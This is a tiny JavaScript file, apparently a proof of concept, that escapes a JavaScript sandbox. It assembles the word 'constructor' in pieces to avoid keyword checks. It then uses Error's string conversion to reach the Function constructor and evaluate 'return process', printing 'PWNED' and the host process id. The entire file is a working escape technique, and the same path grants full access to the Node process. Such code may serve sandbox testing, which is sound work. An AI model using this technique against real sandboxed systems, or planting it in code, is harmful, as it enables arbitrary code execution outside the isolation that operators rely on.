'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
class E extends Error { constructor(o) { super(''); Object.assign(this, o); } }
console.log('PWNED', fn[String(new E({ name: w }))]('return process')().pid);
